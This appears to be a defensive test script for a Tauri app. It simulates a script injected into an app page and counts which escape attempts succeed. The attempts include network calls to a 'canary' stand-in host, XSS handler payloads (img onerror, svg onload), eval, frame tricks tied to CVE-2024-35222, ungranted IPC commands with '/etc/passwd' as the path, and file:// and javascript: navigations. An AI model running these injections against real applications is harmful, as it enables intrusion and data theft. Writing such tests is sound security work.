// What somebody would try whose script ran in a page of the app. `canary` is an address that must never be called,
// `commands` are those that nobody granted; `done` gets the names of the tries that came to something.
const came = [];
const inTime = (promise) =>
  Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error("nothing came")), 2000))]);
const tries = [];
const attempt = (name, deed) =>
  tries.push(
    inTime(Promise.resolve().then(deed)).then(
      () => came.push(name),
      () => {},
    ),
  );
const loaded = (tag, set) =>
  new Promise((resolve, reject) => {
    const element = document.createElement(tag);
    element.onload = resolve;
    element.onerror = reject;
    set(element);
    document.body.append(element);
  });

// The network.
attempt("fetch", () => fetch(canary + "fetch"));
attempt("fetch without an answer", () => fetch(canary + "no-cors", { mode: "no-cors" }));
attempt("XMLHttpRequest", () =>
  new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = reject;
    request.open("GET", canary + "xhr");
    request.send();
  }),
);
attempt("WebSocket", () =>
  new Promise((resolve, reject) => {
    const socket = new WebSocket(canary.replace("http", "ws") + "socket");
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
);
attempt("EventSource", () =>
  new Promise((resolve, reject) => {
    const source = new EventSource(canary + "events");
    source.onopen = resolve;
    source.onerror = reject;
  }),
);
navigator.sendBeacon?.(canary + "beacon", "x");
attempt("image", () => loaded("img", (img) => (img.src = canary + "image")));
attempt("script", () => loaded("script", (script) => (script.src = canary + "script")));
attempt("style sheet", () => loaded("link", (link) => Object.assign(link, { rel: "stylesheet", href: canary + "sheet" })));
attempt("preload", () => loaded("link", (link) => Object.assign(link, { rel: "preload", as: "image", href: canary + "preload" })));
attempt("video", () => loaded("video", (video) => (video.src = canary + "video")));
attempt("object", () => loaded("object", (object) => (object.data = canary + "object")));
attempt("import", () => import(canary + "import"));
attempt("worker", () =>
  new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${canary}worker")`])));
    worker.onerror = reject;
    worker.onmessage = resolve;
  }),
);
attempt("service worker", () => navigator.serviceWorker.register(canary + "service"));
attempt("font", () => new FontFace("f", `url(${canary}font)`).load());
const styled = document.createElement("div");
styled.setAttribute("style", `background: url(${canary}background)`);
document.body.append(styled);

// Scripts that did not come with the app.
window.ran = [];
attempt("eval", () => window.eval("1"));
attempt("Function", () => new Function("return 1")());
const inline = document.createElement("script");
inline.textContent = "window.ran.push('inline script')";
document.body.append(inline);
const written = document.createElement("div");
written.innerHTML = "<img src=x onerror=\"window.ran.push('handler')\"><svg onload=\"window.ran.push('svg')\"></svg>";
document.body.append(written);
attempt("script of data", () => loaded("script", (script) => (script.src = "data:text/javascript,window.ran.push('data')")));

// Frames, which Tauri once took for pages of its own (CVE-2024-35222).
attempt("frame elsewhere", () =>
  new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try {
        // Of another origin nothing can be read; one that was blocked stays empty and ours.
        frame.contentDocument.body ? reject(new Error("empty")) : resolve();
      } catch {
        resolve();
      }
    };
    frame.src = canary + "frame";
    document.body.append(frame);
  }),
);
for (const [name, source] of [["blank frame", "about:blank"], ["written frame", null]]) {
  attempt(name, () => {
    const frame = document.createElement("iframe");
    if (source === null) {
      frame.srcdoc = "<p>x</p>";
    } else {
      frame.src = source;
    }
    document.body.append(frame);
    return frame.contentWindow.__TAURI_INTERNALS__.invoke("plugin:app|version");
  });
}

// Commands that nobody granted, by the app's own way and around it.
if (window.__TAURI__ !== undefined) {
  came.push("window.__TAURI__");
}
const { invoke } = window.__TAURI_INTERNALS__;
for (const command of commands) {
  attempt(command, () => invoke(command, { path: "/etc/passwd", url: canary + "command", rid: 0, options: {}, label: "bell" }));
}

// Ways out of the page.
for (const place of [`${canary}link`, "javascript:window.ran.push('javascript:')", "data:text/html,x", "file:///etc/passwd", "about:blank"]) {
  attempt(`window.open ${place}`, () => {
    if (!window.open(place)) {
      throw new Error("it is not opened");
    }
  });
  const link = Object.assign(document.createElement("a"), { href: place, download: "x" });
  document.body.append(link);
  link.click();
  link.removeAttribute("download");
  link.click();
}
const form = Object.assign(document.createElement("form"), { action: `${canary}form`, method: "post" });
document.body.append(form);
form.submit();

Promise.all(tries).then(() => {
  const here = location.href;
  location.href = "javascript:window.ran.push('location')";
  location.href = "file:///etc/passwd";
  location.href = `${canary}location`;
  setTimeout(() => done([...came, ...window.ran, ...(location.href === here ? [] : [`it is at ${location.href}`])]), 500);
});
